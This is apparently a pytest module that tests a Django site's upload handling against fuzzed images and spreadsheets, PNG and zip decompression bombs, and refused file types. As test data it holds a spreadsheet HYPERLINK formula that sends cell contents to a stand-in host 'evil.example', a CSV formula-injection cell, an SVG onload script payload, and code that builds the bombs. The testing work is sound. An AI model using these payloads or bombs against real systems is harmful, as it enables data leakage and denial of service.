"""Hostile uploads (TRUST 8.1): mutated pictures and sheets, bombs, and what only looks like a file we take.

Each goes through the real page and what reads it behind. Wanted: never an answer of 5xx, never a load
that stops for a reason we did not foresee, bounded memory, and nothing of a marker in what is kept.
"""

import base64
import io
import random
import resource
import subprocess
import sys
import zipfile
import zlib
from collections import Counter

import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image, PngImagePlugin
from tests.people import signed_in
from tests.site.audit.tampering import undone
from tests.site.diary.makers import image

from egenkraft.site.access.scope import scope
from egenkraft.site.diary import header, painter, photos
from egenkraft.site.intake import actions
from egenkraft.site.intake.models import Load
from egenkraft.site.outside import sheets, workbook
from egenkraft.site.outside.sheets import Unreadable, read_file

pytestmark = pytest.mark.upload
MARKER = b"hemlig-markering"
CSV = "Kod;Visningsnamn;Startade\r\nP01;Åsa;2025-01-01\r\nP02;=1+1;2025-02-30\r\n"


def book(**more):
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as made:
        page = made.add_worksheet("Deltagare")
        for number, line in enumerate(CSV.splitlines()):
            page.write_row(number, 0, line.split(";"))
        page.write_formula(3, 0, '=HYPERLINK("https://evil.example/"&A1)', None, "P03")
    return out.getvalue()


def pictures():
    return [
        image(260, 220, comment=MARKER),
        image(260, 220, form="PNG"),
        image(260, 220, form="WEBP"),
        image(220, 260, progressive=True),
    ]


def mutated(data, dice):
    """One mutation of a file: bytes flipped, cut off, doubled, put in, or a length made huge."""
    raw = bytearray(data)
    for _time in range(dice.choice((1, 1, 3))):
        at, way = dice.randrange(len(raw)), dice.randrange(6)
        if way == 0:
            for _flip in range(dice.choice((1, 8, 60))):
                raw[dice.randrange(len(raw))] = dice.randrange(256)
        elif way == 1:
            del raw[max(at, 8) :]
        elif way == 2:
            raw[at:at] = raw[max(0, at - 64) : at]
        elif way == 3:
            raw[at:at] = dice.randbytes(dice.choice((1, 16, 400)))
        elif way == 4:
            raw[at : at + 4] = dice.choice((b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff"))
        else:
            raw[: dice.choice((2, 8, 12))] = dice.choice(
                (b"PK\x03\x04", b"\xff\xd8\xff", header.PNG, b"RIFF")
            )
    return bytes(raw)


def post_picture(browser, data):
    words = {"title": "En dag", "on": "2025-06-03", "author": "Berit", "body": "Vi bakade."}
    file = SimpleUploadedFile("bild.jpg", data, "image/jpeg")
    return browser.post("/posts/new/", {**words, "pictures": file}).status_code


def post_sheet(browser, manager, name, data):
    """The answer of the page, and how the check behind it ended."""
    answer = browser.post("/load/", {"chosen": SimpleUploadedFile(name, data)})
    if answer.status_code != 302:
        return answer.status_code, ""
    pk = answer.url.rstrip("/").rpartition("/")[2]
    actions.run(manager, load=pk, language="sv", dry=True)
    with scope(manager):
        return answer.status_code, Load.objects.get(pk=pk).state


def test_mutated_files_end_in_a_page_and_never_in_a_fault(
    leader, manager, media, settings, tmp_path, goal, many
):
    settings.DATA = tmp_path
    browsers = {"leader": signed_in(leader), "manager": signed_in(manager)}
    for browser in browsers.values():
        browser.raise_request_exception = False
    dice, before = random.Random(20251126), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    files, ends, wrong = many(300, 5_000), Counter(), []
    sources = [("bild.jpg", data) for data in pictures()]
    sources += [
        ("deltagare.xlsx", book()),
        ("deltagare.csv", CSV.encode()),
        ("deltagare.csv", CSV.encode("utf-16")),
    ]
    for number in range(files):
        name, source = sources[number % len(sources)]
        data = mutated(source, dice)
        with undone():
            if name == "bild.jpg":
                end = (post_picture(browsers["leader"], data), "")
            else:
                end = post_sheet(browsers["manager"], manager, name, data)
        ends[end] += 1
        if end[0] >= 500 or end[1] == Load.State.FAILED:
            wrong.append((number, name, end))
    grew = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024
    goal("G17", reached=f"{files} mutated files: {len(wrong)} faults, {grew} MB more memory", ok=not wrong)
    assert wrong == []
    assert grew < 300
    assert len(ends) >= 3, ends  # some were taken, some refused


# A child counts what its parent held when it began, so a small process stands between.
BETWEEN = (
    "import resource, subprocess, sys; "
    "done = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL); "
    "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)"
)


def most_memory(command, data):
    """Exit code and the most memory, in MB, of a child process."""
    done = subprocess.run(
        [sys.executable, "-c", BETWEEN, *command], input=data, capture_output=True, check=True
    )
    code, kilobytes = map(int, done.stdout.split())
    return code, kilobytes // 1024


def test_the_largest_picture_that_is_taken_needs_little_memory(goal):
    grain = Image.frombytes("RGB", (40, 30), random.Random(1).randbytes(3600)).resize((4000, 3000))
    grain.putalpha(128)
    used = []
    for form, more in (("WEBP", {"method": 0, "quality": 50}), ("PNG", {"compress_level": 1})):
        out = io.BytesIO()
        grain.save(out, form, **more)
        used.append(
            most_memory([sys.executable, "-I", painter.__file__, str(header.MAX_PIXELS)], out.getvalue())
        )
    goal("G17", reached=f"12 megapixels in {max(mb for _code, mb in used)} MB", wanted="< 300 MB")
    assert [code for code, _mb in used] == [0, 0]
    assert max(mb for _code, mb in used) < 300


def with_markers():
    """One file of each kind, with a marker wherever the kind has room for one."""
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", MARKER.decode())
    text.add_itxt("XML:com.adobe.xmp", MARKER.decode())
    exif = Image.Exif()
    exif[0x010E] = MARKER.decode()
    exif.get_ifd(0x8825)[29] = MARKER.decode()
    profile = b"\0\0\1\0" + MARKER * 20  # a description inside a colour profile
    more = {"exif": exif, "icc_profile": profile}
    yield image(260, 220, comment=MARKER, xmp=MARKER, **more) + MARKER
    yield image(260, 220, form="PNG", pnginfo=text, **more) + MARKER
    yield image(260, 220, form="WEBP", xmp=MARKER, **more) + MARKER


@pytest.mark.parametrize("number", range(3))
def test_no_marker_of_any_kind_is_left(number):
    raw = list(with_markers())[number]
    assert raw.count(MARKER) >= 3
    done = photos.paint(raw)
    kept = [*done.files.values(), base64.b64decode(done.preview)]
    assert len(kept) >= 3
    assert [
        data for data in kept if MARKER in data or b"Exif" in data or b"ICC" in data or b"XMP" in data
    ] == []


def test_a_bomb_is_refused_before_anything_is_decoded(monkeypatch):
    """30,000 x 30,000: it never reaches a decoder, in this process or in a child."""

    def decoded(*_args, **_more):
        raise AssertionError("the bomb was handed on")

    monkeypatch.setattr(photos.subprocess, "run", decoded)
    monkeypatch.setattr(Image, "open", decoded)
    side = (30_000).to_bytes(4, "big")
    head = b"IHDR" + side * 2 + b"\x08\x02\0\0\0"
    pixels = zlib.compress(b"\0" * 1_000_000)
    bomb = header.PNG + b"\0\0\0\r" + head + zlib.crc32(head).to_bytes(4, "big") + b"\0\0\0\x10IDAT" + pixels
    with pytest.raises(photos.BadPicture, match="12"):
        photos.paint(bomb)


@pytest.mark.parametrize(
    "name", ["bild.svg", "sida.html", "paket.zip", "bok.xlsm", "program.exe", ".dold.csv"]
)
def test_other_kinds_are_refused_by_name(manager, name):
    answer = signed_in(manager).post("/load/", {"chosen": SimpleUploadedFile(name, b"<svg onload=alert(1)>")})
    assert answer.status_code == 200
    assert not Load.raw.exists()


def lying_bomb(path):
    """An archive whose list says 1,000 bytes where a hundred million come out."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", b"0" * 100_000_000)
    raw = path.read_bytes()
    path.write_bytes(raw.replace((100_000_000).to_bytes(4, "little"), (1_000).to_bytes(4, "little")))


def far_corner(path):
    """Two cells, so far apart that the sheet between them has seventeen thousand million."""
    with zipfile.ZipFile(io.BytesIO(book())) as source, zipfile.ZipFile(path, "w") as target:
        for part in source.infolist():
            data = source.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                cell = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
                data = data.replace(b"</sheetData>", cell)
            target.writestr(part.filename, data)


@pytest.mark.parametrize("make", [lying_bomb, far_corner])
def test_a_sheet_that_would_fill_the_memory_ends_in_a_sentence(tmp_path, monkeypatch, make):
    path = tmp_path / "bok.xlsx"
    make(path)
    monkeypatch.setattr(sheets, "LARGEST_UNPACKED", 1_000_000)
    with translation.override("en"), pytest.raises(Unreadable) as told:
        read_file(path)
    assert told.value.mend
    code, used = most_memory(
        [
            sys.executable,
            "-I",
            workbook.__file__,
            str(path),
            "1000000",
            "200000",
            "300",
            "2000000",
            "30000000",
        ],
        b"",
    )
    assert code != 0
    assert used < 300


def test_a_formula_is_never_computed(tmp_path):
    path = tmp_path / "bok.xlsx"
    path.write_bytes(book())
    (sheet,) = read_file(path)
    assert sheet.rows[3][0] == "P03", "the value that the file carries, and not the formula"


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
@pytest.mark.parametrize(("row", "words"), [(["x"] * 301, "300 columns"), (["x" * 10_001], "10,000 letters")])
def test_width_and_letters_are_bounded(tmp_path, name, row, words):
    path = tmp_path / name
    if name.endswith(".csv"):
        path.write_text("\n".join([";".join(row)] * 2), encoding="utf-8")
    else:
        with xlsxwriter.Workbook(path) as made:
            made.add_worksheet("A").write_row(0, 0, row)
    with translation.override("en"), pytest.raises(Unreadable, match=words):
        read_file(path)
